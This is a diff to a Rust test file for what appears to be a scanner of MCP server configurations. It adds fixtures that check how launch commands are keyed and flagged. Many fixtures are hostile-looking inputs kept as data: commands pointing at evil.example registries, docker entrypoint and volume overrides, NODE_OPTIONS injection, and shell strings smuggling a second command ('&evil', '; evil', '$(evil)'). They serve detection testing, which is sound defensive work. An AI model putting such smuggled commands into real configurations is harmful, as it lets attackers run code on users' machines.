@@ -1,5 +1,7 @@
 //! Fixture homes: what is found in them, and that nothing of it is a value.
 
+mod hostile;
+
 use crate::{Client, Fault, InventoryKey, Machine, Observation, Platform, Scan, ServerFacts, scan};
 use std::path::{Path, PathBuf};
 
@@ -77,7 +79,8 @@ fn every_client(folder: &Folder) {
         r#"{{"url": "https://user:{c}@MCP.acme.example:443/{c}/mcp/?key={c}#{c}", "headers": {{"X-Key": "{c}"}}}}"#
     );
     let both = format!(
-        r#"{{"mcpServers": {{"files": {server}, "far": {remote}, "{c}": {server}}}, "note": "{c}"}}"#
+        r#"{{"mcpServers": {{"files": {server}, "far": {remote}, "{c}": {server},
+            "plain": {{"url": "https://MCP.acme.example:443/{c}/mcp/?key={c}#{c}"}}}}, "note": "{c}"}}"#
     );
     let vscode = format!(
         r#"{{ // {c}
@@ -194,7 +197,7 @@ fn no_value_of_any_client_stands_in_a_report() {
     assert!(
         found
             .iter()
-            .any(|(_, facts)| facts.key == "url:https://mcp.acme.example/*/mcp")
+            .any(|(_, facts)| facts.key == "url:https://mcp.acme.example/*/mcp" && facts.weak)
     );
     assert!(
         found
@@ -358,8 +361,23 @@ const KEYS: &[(&str, &str)] = &[
     ("npx -y server-a@1.2.3", "=npm:server-a"),
     ("npx -y server-a@^1.2", "=npm:server-a"),
     ("npx -y @Acme/Server-A@1.0.0", "=npm:@acme/server-a"),
-    ("npx -p @acme/server-a server", "=npm:@acme/server-a"),
-    ("npx --package=@acme/server-a server", "=npm:@acme/server-a"),
+    ("npx -p @acme/server-a server-a", "=npm:@acme/server-a"),
+    ("npx -p @acme/server-a server", "!npm:@acme/server-a"),
+    ("npx --package=@acme/server-a server", "!npm:@acme/server-a"),
+    ("npx --prefix /tmp/evil server-a", "!npm:server-a"),
+    ("npx tsx evil.ts", "!npm:tsx"),
+    ("npx -y supergateway", "!npm:supergateway"),
+    ("./npx -y server-a", "!cmd:"),
+    ("/tmp/evil/npx -y server-a", "!cmd:"),
+    ("~/srv/npx -y server-a", "!bin:"),
+    ("/tmp/evil/env npx server-a", "!cmd:"),
+    ("/usr/bin/env npx server-a", "=npm:server-a"),
+    ("env -C /tmp/evil npx server-a", "!npm:server-a"),
+    (
+        "npm exec server-a --registry=https://evil.example",
+        "!npm:server-a",
+    ),
+    ("npm exec server-a -- --flag", "=npm:server-a"),
     ("npx -p a -p b run", "!cmd:"),
     ("npx github:acme/server", "!cmd:"),
     ("npx ./server", "!cmd:"),
@@ -387,11 +405,16 @@ const KEYS: &[(&str, &str)] = &[
     ("provost mcp guard --policy x -- npx server-a", "=npm:server-a"),
     (
         "node /opt/app/node_modules/@acme/server-a/dist/index.js",
-        "=npm:@acme/server-a",
+        "!npm:@acme/server-a",
     ),
     (
+        "node /opt/node_modules/@acme/server/../evil.js",
+        "!npm:@acme/server",
+    ),
+    ("node ./node_modules/server-a/i.js", "!npm:server-a"),
+    (
         "node --no-warnings /opt/node_modules/a/node_modules/b/i.js",
-        "=npm:b",
+        "!npm:b",
     ),
     ("node -e x", "!cmd:"),
     ("node --import x /srv/server.js", "!cmd:"),
@@ -400,18 +423,39 @@ const KEYS: &[(&str, &str)] = &[
         "=url:https://mcp.acme.example/sse",
     ),
     (
-        "npx -y mcp-remote@latest https://mcp.acme.example:443/mcp/ --header X:y",
+        "npx -y mcp-remote@latest https://mcp.acme.example:443/mcp/ --debug",
         "=url:https://mcp.acme.example/mcp",
+    ),
+    (
+        "npx mcp-remote https://mcp.acme.example/mcp --header X:y",
+        "!url:https://mcp.acme.example/mcp",
     ),
     (
         "npx supergateway --sse https://mcp.acme.example/sse",
         "=url:https://mcp.acme.example/sse",
     ),
-    ("npx supergateway --stdio server", "=npm:supergateway"),
+    (
+        "npx mcp-remote --header https://good.example https://evil.example",
+        "!npm:mcp-remote",
+    ),
+    (
+        "npx mcp-remote https://good.example https://evil.example",
+        "!url:https://good.example",
+    ),
+    (
+        "npx supergateway --port 1 --sse https://good.example --stdio evil",
+        "!npm:supergateway",
+    ),
+    ("npx supergateway --stdio server", "!cmd:"),
     ("uvx mcp-server-git", "=pypi:mcp-server-git"),
     ("uvx MCP_Server.Git==1.0", "=pypi:mcp-server-git"),
     ("uvx mcp-server-git@2.0.1", "=pypi:mcp-server-git"),
-    ("uvx --from acme-tools[cli]>=1 server", "=pypi:acme-tools"),
+    ("uvx --from acme-tools[cli]>=1 server", "!pypi:acme-tools"),
+    ("uvx --from acme-tools[cli]>=1 acme_tools", "=pypi:acme-tools"),
+    ("uvx --with evil mcp-server-git", "!pypi:mcp-server-git"),
+    ("uvx --python /tmp/evil mcp-server-git", "!pypi:mcp-server-git"),
+    ("uvx --directory /tmp/evil mcp-server-git", "!pypi:mcp-server-git"),
+    ("uvx mcp-proxy evil", "!pypi:mcp-proxy"),
     ("uvx --from git+https://github.com/a/b server", "!cmd:"),
     (
         "uvx --index-url https://evil.example/simple mcp-server-git",
@@ -420,11 +464,13 @@ const KEYS: &[(&str, &str)] = &[
     ("uv tool run mcp-server-git", "=pypi:mcp-server-git"),
     (
         "uv run --with mcp-server-git mcp-server-git",
-        "=pypi:mcp-server-git",
+        "!pypi:mcp-server-git",
     ),
     ("uv run --with fastmcp fastmcp run other.py", "!cmd:"),
     ("pipx run mcp-server-git", "=pypi:mcp-server-git"),
     ("python -m mcp_server_git", "!cmd:"),
+    ("/usr/bin/python3 -m good", "!pypi:good"),
+    ("~/venv/bin/python -m good", "!cmd:"),
     ("docker run -i --rm mcp/github", "=oci:docker.io/mcp/github"),
     (
         "docker run -i -e TOKEN ghcr.io/Acme/Server:1.2",
@@ -436,6 +482,30 @@ const KEYS: &[(&str, &str)] = &[
         "=oci:localhost:5000/a",
     ),
     ("docker run --unknown good evil", "!cmd:"),
+    ("docker run python:3.12", "!oci:docker.io/library/python"),
+    ("docker run ghcr.io/acme/bash", "!oci:ghcr.io/acme/bash"),
+    ("docker run mcp/github sh", "!oci:docker.io/mcp/github"),
+    (
+        "docker run --entrypoint sh mcp/github",
+        "!oci:docker.io/mcp/github",
+    ),
+    (
+        "docker run --entrypoint=sh mcp/github",
+        "!oci:docker.io/mcp/github",
+    ),
+    (
+        "docker run -v /tmp/evil:/app mcp/github",
+        "!oci:docker.io/mcp/github",
+    ),
+    (
+        "docker run -e NODE_OPTIONS=x mcp/github",
+        "!oci:docker.io/mcp/github",
+    ),
+    ("docker run --env-file x mcp/github", "!oci:docker.io/mcp/github"),
+    (
+        "docker mcp gateway run --catalog evil",
+        "!builtin:docker-mcp-gateway",
+    ),
     ("docker mcp gateway run", "=builtin:docker-mcp-gateway"),
     (
         "go run github.com/Acme/server@v1.2.3",
@@ -449,20 +519,46 @@ const KEYS: &[(&str, &str)] = &[
         "=deno:https://acme.example/a.ts",
     ),
     ("dnx Acme.Server@1.0.0 --yes", "=nuget:acme.server"),
+    (
+        "dnx Acme.Server@1.0.0 --source https://evil.example",
+        "!nuget:acme.server",
+    ),
+    ("bun run /home/ada/srv/server.js", "!cmd:"),
+    ("cmd /c npx -y server-a&evil", "!cmd:"),
     ("github-mcp-server stdio", "!cmd:"),
     ("npx sk-ant-api03-Abc123Def456Ghi789", "!cmd:"),
-    ("/srv/server --flag", "=bin:"),
-    ("node /srv/server.js", "=script:"),
-    ("python3.12 -u /srv/server.js", "=script:"),
-    ("uv --directory /srv run /srv/server.py", "=script:"),
-    ("bash /srv/server", "=script:"),
+    ("/srv/server", "!cmd:"),
+    ("node /srv/server.js", "!cmd:"),
+    ("~/srv/server", "=bin:"),
+    ("~/srv/server --flag", "!bin:"),
+    ("/usr/bin/server", "=bin:"),
+    ("/usr/bin/server --flag", "!bin:"),
+    ("node ~/srv/server.js", "=script:"),
+    ("node ~/srv/../srv/server.js", "=script:"),
+    ("node srv/server.js", "!script:"),
+    ("node ~/srv/../../../srv/server.js", "!cmd:"),
+    ("python3.12 -u /home/ada/srv/server.js", "=script:"),
+    ("uv run /home/ada/srv/server.py", "=script:"),
+    ("uv --directory /srv run /home/ada/srv/server.py", "!script:"),
+    ("uv run --with evil /home/ada/srv/server.py", "!script:"),
+    ("uv run npx server-a", "!npm:server-a"),
+    ("bash /home/ada/srv/server", "=script:"),
     ("/srv/none", "!cmd:"),
 ];
 
 #[test]
 fn every_spelling_of_a_server_has_the_key_of_the_server() {
     let folder = Folder::new("spellings");
-    for path in ["srv/server", "srv/server.js", "srv/server.py"] {
+    folder.write("usr/lib/python3/site-packages/good-1.0.dist-info/METADATA", "");
+    for path in [
+        "srv/server",
+        "srv/server.js",
+        "usr/bin/server",
+        "home/ada/srv/npx",
+        "home/ada/srv/server",
+        "home/ada/srv/server.js",
+        "home/ada/srv/server.py",
+    ] {
         folder.write(path, &"#!/bin/sh\n# a server of some length\n".repeat(4));
     }
     let entries: Vec<(String, serde_json::Value)> = KEYS
@@ -507,6 +603,10 @@ fn shells_are_looked_through_only_where_they_do_nothing_more() {
         "c": {"command": "sh", "args": ["-c", "npx server-a; evil"]},
         "d": {"command": "npx -y server-a"},
         "e": {"command": "sh", "args": ["-c", "npx $(evil)"]},
+        "g": {"command": "cmd", "args": ["/c", "npx", "-y", "server-a", "a|evil"]},
+        "h": {"command": "sh", "args": ["-c", "npx 'server-a' '; evil'"]},
+        "i": {"command": "npx", "args": ["supergateway", "--stdio", "env NODE_OPTIONS=x npx server-a"]},
+        "j": {"command": "npx", "args": ["supergateway", "--stdio", "npx server-a"]},
         "f": {"url": "https://mcp.zapier.example/api/s/0f8fad5b-d9cb-469f-a165-70867728950e/mcp?x=y"}}}"#;
     folder.write("home/ada/.cursor/mcp.json", text);
     let scan = folder.scan();
@@ -515,12 +615,50 @@ fn shells_are_looked_through_only_where_they_do_nothing_more() {
         .iter()
         .map(|(_, facts)| facts.shape == Some("pipeline"))
         .collect();
-    assert_eq!(pipelines, [false, true, true, false, true, false]);
+    assert_eq!(
+        pipelines,
+        [false, true, true, false, true, false, true, true, false, false]
+    );
+    let of_bridges: Vec<(&str, bool)> = found[8..]
+        .iter()
+        .map(|(_, facts)| (facts.key.as_str(), facts.weak))
+        .collect();
+    assert_eq!(of_bridges, [("npm:server-a", true), ("npm:server-a", false)]);
     assert_eq!(
         (found[0].1.key.as_str(), found[3].1.key.as_str()),
         ("npm:server-a", "npm:server-a")
     );
     assert_eq!(found[5].1.key, "url:https://mcp.zapier.example/api/s/*/mcp");
+}
+
+#[test]
+fn a_version_is_exact_if_it_names_one_release() {
+    let folder = Folder::new("versions");
+    let words = [
+        ("npx", "server-a@1.2.3", true),
+        ("npx", "server-a@1.2.3-rc.1", true),
+        ("npx", "server-a@1.2", false),
+        ("npx", "server-a@1.2.x", false),
+        ("npx", "server-a@1.2.3.4", false),
+        ("uvx", "server-a==1.0rc1", true),
+    ];
+    let entries = words.iter().enumerate();
+    let entries: serde_json::Map<String, serde_json::Value> = entries
+        .map(|(at, (command, spec, _))| {
+            (
+                at.to_string(),
+                serde_json::json!({"command": command, "args": [spec]}),
+            )
+        })
+        .collect();
+    folder.write(
+        "home/ada/.cursor/mcp.json",
+        &serde_json::json!({"mcpServers": entries}).to_string(),
+    );
+    let scan = folder.scan();
+    for ((_, spec, is_exact), (_, facts)) in words.iter().zip(servers(&scan)) {
+        assert_eq!(facts.version_pin == crate::Pin::Exact, *is_exact, "{spec}");
+    }
 }
 
 #[test]
